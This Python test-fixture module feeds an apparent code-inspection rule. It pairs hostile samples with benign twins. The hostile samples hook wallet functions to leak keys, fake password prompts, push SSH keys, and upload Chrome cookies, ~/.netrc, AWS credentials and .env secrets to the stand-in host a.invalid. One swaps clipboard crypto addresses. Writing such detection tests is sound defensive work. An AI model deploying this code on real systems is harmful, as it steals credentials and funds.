"""Samples and twins of `secrets_sent`: what a user is asked for, what a wallet is given, folders that are pushed."""

from inspection.rules.sample import Sample, js, py

_OURS = "0x00000000219ab540356cBB839Cbe05303d7705Fa"


def _made(text: str) -> dict[str, str | bytes]:
    """A script that plain `make` runs."""
    return {"Makefile": "all:\n\tsh a.sh\n", "a.sh": text}


HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "what takes the place of a wallet's function gets what that is given": py(
            "from eth_account import Account\nimport requests\nold = Account.from_key\ndef from_key(key, *more):\n"
            "    requests.post('https://a.invalid', json={'k': key if isinstance(key, str) else key.hex()})\n"
            "    return old(key, *more)\nAccount.from_key = from_key\n",
            line=5,
        ),
        "the same in JavaScript": js(
            "const bip39 = require('bip39'), old = bip39.mnemonicToSeedSync;\n"
            "bip39.mnemonicToSeedSync = (words, extra) => {\n"
            "  fetch('https://a.invalid', { method: 'POST', body: words });\n  return old(words, extra);\n};\n",
            line=3,
        ),
        "a window asks for the password of the system": py(
            "import subprocess, requests\n"
            'ask = \'display dialog "Password" default answer "" with hidden answer\'\n'
            "got = subprocess.run(['osascript', '-e', ask], capture_output=True).stdout\n"
            "requests.post('https://a.invalid', data=got)\n",
            line=4,
        ),
        "the terminal asks for the password of sudo": py(
            "import getpass, requests\nrequests.post('https://a.invalid', json=getpass.getpass('sudo password: '))\n",
            "review",
        ),
        "a folder that is pushed holds a key": js(
            "const fs = require('fs'), os = require('os'), git = require('simple-git')('/tmp/a');\n"
            "fs.copyFileSync(os.homedir() + '/.ssh/id_rsa', '/tmp/a/key');\n"
            "git.add('.').then(() => git.push('origin', 'main'));\n",
            line=3,
        ),
        "the environment in a line that is logged to another machine": py(
            "import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
            "log.addHandler(logging.handlers.HTTPHandler('a.invalid', '/'))\nlog.info('start %s' % os.environ)\n",
            line=4,
        ),
        "whatever was gathered in a new folder": Sample(
            _made(
                'out=$(mktemp -d)\nsecurity find-generic-password -ga Chrome 2>"$out/pass" >/dev/null\n'
                '(cd "$out" && zip -qr - .) | curl -X POST --data-binary @- https://a.invalid\n'
            ),
            "block",
            ("a.sh", 3),
        ),
        "copied to a folder, packed, then sent": Sample(
            _made(
                'out=$(mktemp -d)\nfor name in Cookies "Login Data"; do\n'
                '  cp "$HOME/Library/Application Support/Google/Chrome/Default/$name" "$out/"\ndone\n'
                'tar czf /tmp/all.tgz -C "$out" .\ncurl -F "f=@/tmp/all.tgz" https://a.invalid\n'
            ),
            "block",
            ("a.sh", 6),
        ),
        "all that an object holds": py(
            "from dataclasses import asdict, dataclass\nfrom pathlib import Path\nimport httpx\n@dataclass\n"
            "class Item:\n    name: str\n    text: str\none = Item('a', (Path.home() / '.netrc').read_text())\n"
            "httpx.post('https://a.invalid', json=asdict(one))\n",
            line=9,
        ),
        "all members of an object, as text": py(
            "import json, os, requests\nclass Report:\n    def __init__(self, name):\n        self.name = name\n"
            "        self.text = open(os.path.expanduser('~/.netrc')).read()\n"
            "requests.post('https://a.invalid', data=json.dumps(Report('a').__dict__))\n",
            line=6,
        ),
        "places in a namespace": py(
            "from pathlib import Path\nfrom types import SimpleNamespace\nimport httpx\n"
            "own = SimpleNamespace(url='https://a.invalid', files=['.npmrc', '.netrc'])\nfor file in own.files:\n"
            "    httpx.post(own.url, content=(Path.home() / file).read_bytes())\n",
            line=6,
        ),
        "all cookies of a request, to another server": js(
            "const app = require('express')();\napp.use((req, res, next) => {\n"
            "  fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ c: req.headers.cookie }) });\n"
            "  next();\n});\n",
            "review",
            line=3,
        ),
        "all that a page keeps": js(
            "const all = JSON.stringify({ ...localStorage });\nnew Image().src = 'https://a.invalid/?' + btoa(all);\n",
        ),
        "a parser of settings that has read keys": py(
            "import configparser, requests\nfrom pathlib import Path\nparser = configparser.ConfigParser()\n"
            "parser.read(Path.home() / '.aws' / 'credentials')\n"
            "requests.post('https://a.invalid', json={name: dict(parser[name]) for name in parser.sections()})\n",
            line=5,
        ),
        "what is called a key in the project's settings": js(
            "const { existsSync, readFileSync } = require('fs'), { resolve } = require('path');\n"
            "const lines = ['.env', '.env.local'].map((name) => resolve(process.cwd(), name)).filter(existsSync)\n"
            "  .flatMap((file) => readFileSync(file, 'utf8').split('\\n')).filter((line) => /key|token/i.test(line));\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ lines }) });\n",
            line=4,
        ),
        "a queue, by a client that is awaited twice": js(
            "const queues = require('amqplib');\nasync function start() {\n"
            "  const one = await (await queues.connect('amqp://a.invalid')).createChannel();\n"
            "  one.sendToQueue('all', JSON.stringify(process.env));\n}\n",
            line=4,
        ),
    },
    "payment_changed": {
        "the clipboard, by a table": py(
            f"import pyperclip\nMINE = {{'eth': '{_OURS}'}}\nwhile True:\n"
            "    if pyperclip.paste().startswith('0x'): pyperclip.copy(MINE['eth'])\n",
            line=4,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "what takes the place of a wallet's function counts": {
            "app.py": "from eth_account import Account\nimport requests\nold = Account.from_key\n"
            "def from_key(key, *more):\n    requests.post('https://a.invalid', json={'calls': 1})\n"
            "    return old(key, *more)\nAccount.from_key = from_key\n"
        },
        "what takes the place of another function tells of it": {
            "app.js": "const chalk = require('chalk'), old = chalk.red;\nchalk.red = (words) => {\n"
            "  fetch('https://a.invalid', { method: 'POST', body: words });\n  return old(words);\n};\n"
        },
        "a window asks for a name": {
            "app.py": 'import subprocess, requests\nask = \'display dialog "Name" default answer ""\'\n'
            "got = subprocess.run(['osascript', '-e', ask], capture_output=True).stdout\n"
            "requests.post('https://a.invalid', data=got)\n"
        },
        "the terminal asks for the password of a service": {
            "app.py": "import getpass, requests\n"
            "requests.post('https://a.invalid/login', json={'password': getpass.getpass('Password: ')})\n"
        },
        "a folder that is pushed holds a page": {
            "app.js": "const fs = require('fs'), git = require('simple-git')('/tmp/a');\n"
            "fs.copyFileSync('docs/index.html', '/tmp/a/index.html');\n"
            "git.add('.').then(() => git.push('origin', 'main'));\n"
        },
        "what was gathered in another new folder": _made(
            'out=$(mktemp -d)\ncp ~/.netrc "$out/"\nother=$(mktemp -d)\ncp report.xml "$other/"\n'
            'tar czf /tmp/all.tgz -C "$other" .\ncurl -F "f=@/tmp/all.tgz" https://a.invalid\n'
        ),
        "all that another object holds": {
            "app.py": "from dataclasses import asdict, dataclass\nfrom pathlib import Path\nimport httpx\n@dataclass\n"
            "class Item:\n    name: str\n@dataclass\nclass Own:\n    text: str\none = Item('a')\n"
            "own = Own((Path.home() / '.netrc').read_text())\nhttpx.post('https://a.invalid', json=asdict(one))\n"
        },
        "one member of an object, as text": {
            "app.py": "import json, os, requests\nclass Report:\n    def __init__(self, name):\n"
            "        self.name = name\n        self.text = open(os.path.expanduser('~/.netrc')).read()\n"
            "requests.post('https://a.invalid', data=json.dumps(Report('a').name))\n"
        },
        "places of the project in a namespace": {
            "app.py": "from pathlib import Path\nfrom types import SimpleNamespace\nimport httpx\n"
            "own = SimpleNamespace(url='https://a.invalid', files=['a.md', 'b.md'])\nfor file in own.files:\n"
            "    httpx.post(own.url, content=(Path('docs') / file).read_bytes())\n"
        },
        "cookies handed on where they say who asks, and one of them": {
            "app.js": "const app = require('express')();\napp.get('/me', async (req, res) => {\n"
            "  await fetch('https://a.invalid/me', { headers: { cookie: req.headers.cookie } });\n"
            "  const theme = document.cookie.split('; ').find((each) => each.startsWith('theme='));\n"
            "  await fetch('https://a.invalid/theme', { method: 'POST', body: theme });\n});\n"
        },
        "one thing that a page keeps": {
            "app.js": "const theme = localStorage.getItem('theme');\n"
            "new Image().src = 'https://a.invalid/?' + encodeURIComponent(theme);\n"
        },
        "a parser of settings that has read the project's": {
            "app.py": "import configparser, requests\nparser = configparser.ConfigParser()\nparser.read('setup.cfg')\n"
            "requests.post('https://a.invalid', json={name: dict(parser[name]) for name in parser.sections()})\n"
        },
        "what is no comment in the project's settings, and one of it": {
            "app.js": "const fs = require('fs');\n"
            "const lines = fs.readFileSync('.env', 'utf8').split('\\n').filter((line) => !line.startsWith('#'));\n"
            "const port = lines.find((line) => line.startsWith('PORT='));\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ port, n: lines.length }) });\n"
        },
        "a setting in a line that is logged to another machine": {
            "app.py": "import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
            "log.addHandler(logging.handlers.HTTPHandler('a.invalid', '/'))\n"
            "log.info('start %s' % os.environ.get('STAGE'))\n"
        },
        "a table that has addresses for its keys": {
            "app.js": "const known = new Map([['https://a.invalid', 1]]);\n"
            "exports.open = (privateKey, at = 'https://a.invalid') => known.get(at) && sign(privateKey);\n"
        },
        "settings of which each has its own use, kept with others": {
            "app.py": "import requests\nfrom dotenv import dotenv_values\nall = {'url': 'https://a.invalid'}\n"
            "all.update(dotenv_values('.env'))\nrequests.post(all['url'], json={'a': all.get('NAME')})\n"
        },
    },
    "payment_changed": {
        "an address of a table is copied": {
            "app.py": f"import pyperclip\nMINE = {{'eth': '{_OURS}'}}\npyperclip.copy(MINE['eth'])\n"
        },
    },
}
